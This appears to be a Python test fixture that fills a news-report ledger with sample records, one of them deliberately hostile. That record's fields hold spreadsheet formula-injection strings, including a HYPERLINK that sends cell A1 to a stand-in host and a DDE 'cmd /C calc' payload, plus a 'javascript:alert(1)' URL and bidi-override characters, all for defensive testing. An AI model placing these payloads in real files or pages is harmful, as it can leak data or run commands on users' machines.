"""A ledger made by hand: reports with corrections, a copy, a withdrawn and an undated one, and one of hostile words."""

from typing import Any

import msgspec

from sayso.core.records import (
    Actor,
    Amount,
    Belief,
    DateRef,
    Event,
    Judgement,
    Place,
    Problem,
    Reading,
    Statement,
)
from sayso.core.spans import Span
from sayso.ledger import Ledger
from sayso.run.correcting import correct
from sayso.run.digests import refresh
from sayso.run.drafting import Change
from sayso.run.reviewing import grade, withdraw

from ..run.conftest import COLONEL, ENVOY, MINISTER, store, told

REPORTS = 7
"""All there are: r1 r2 r3, c1 (a copy of r1), w1 (withdrawn), u1 (undated), h1 (hostile)."""
LONG = 40_000
UNQUOTED = "The lamps along the quay went out one by one that evening."
"""Stands in no record: only a full text tells it."""
FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
    "'=1",
    "a;=1+1",
    "say \"so\", or not\nand\r\nso on",
    "\u202egnol\u202c \u200f right",
)  # fmt: skip


def hostile() -> Reading:
    """A report whose every name and word is chosen to do harm."""
    text = ""

    def add(words: str) -> Span:
        nonlocal text
        text += words
        return len(text) - len(words), len(text)

    mentions = [add(words) for words in FORMULAS]
    add(" said that ")
    trigger = add("=attack")
    add(" at ")
    place = add("@Calder")
    add(" of ")
    amount = add("-5")
    add(" on ")
    date = add("+Monday")
    add(". ")
    content = add("x" * LONG)
    add(f". {UNQUOTED}")
    actors = tuple(
        Actor(id=f"a{n}", name=words, kind="person", code="VEL MIL" if n % 2 else None, mentions=(mentions[n],))
        for n, words in enumerate(FORMULAS)
    )
    return Reading(
        id="h1", text=text, title=FORMULAS[0], publisher=FORMULAS[1], byline=FORMULAS[2], published="2031-03-04",
        url="javascript:alert(1)", boilerplate=((0, 3),), actors=actors,
        statements=(
            Statement(id="s1", kind="direct", content=(content,), speaker="a0", addressee="=A1", factuality="CT+"),
            Statement(id="s2", kind="indirect", source=(mentions[0],), content=(trigger, place), speaker="a1",
                      parent="s1", core=trigger, factuality="PS-", aspect="planned", org="outlet:=Evil"),
        ),
        events=(
            Event(id="e1", trigger=trigger, type="ASSAULT", mode="drone", contexts=("military", "territory"),
                  aux="future", actor=("a0", "a1"), recipient=("a2",), place="p1", date=("2031-02", "2031-02"),
                  amounts=("m1",)),
        ),
        beliefs=(
            Belief(event="e1", source="a1", statement="s2", factuality="PS-", aspect="planned", extent="part",
                   date="2031-03-03", via=("a0", "a2"), org="VEL", cues=(mentions[3], mentions[4])),
            Belief(event="e1", source="AUTHOR", factuality="PR+", aspect="announced"),
        ),
        places=(Place(id="p1", span=place, name="=Calder", lat=-12.5, lon=-0.25, country="VEL", geonameid=17,
                      kind="city", relation="near", radius=3.5, confidence=0.75),),
        dates=(DateRef(span=date, start="2031-02", end="2031-02", precision="month"),),
        amounts=(Amount(id="m1", span=amount, value=-5.0, low=-7.0, unit="=deaths", tally="part"),),
        problems=(Problem(stage="dates", message="=it broke"),),
    )  # fmt: skip


def undated() -> Reading:
    """A report of no known day."""
    return msgspec.structs.replace(told("u1", "2031-03-05", "Morrow Wire", COLONEL, before="Late. "), published=None)


def fill(ledger: Ledger) -> None:
    """Put all of it into an empty ledger."""
    first = told("r1", "2031-03-01", "The Harbour Post", MINISTER, COLONEL)
    for reading in (
        first,
        told("r2", "2031-03-02", "Calder Voice", ENVOY),
        told("r3", "2031-03-03", "Morrow Wire", COLONEL),
        told("c1", "2031-03-02", "The Relay", MINISTER, before="By wire. "),
        told("w1", "2031-03-02", "The Fog", ENVOY, before="Fog. "),
        undated(),
        hostile(),
    ):
        store(ledger, reading)
    with ledger.write() as writer:
        copy = Judgement(kind="copy", left="c1", right="r1", score=1.0, reason="the same words", by="rule:copies")
        writer.add_judgement(copy)
    withdraw(ledger, "w1", "2031-03-05", by="Kim", reason="the paper said so")
    grade(ledger, "VEL", "B", by="Kim", reason="mostly right")
    _say(ledger, "r1", action="accept", record="e1")
    _say(ledger, "r1", action="set", record="s1", field="factuality", value="PR+")
    _say(ledger, "r3", action="set", record="e1:a1:s1", field="factuality", value="PR-")
    refresh(ledger)


def _say(ledger: Ledger, document: str, **fields: Any) -> None:
    correct(ledger, document, Change(**fields), by="Kim", reason="because")
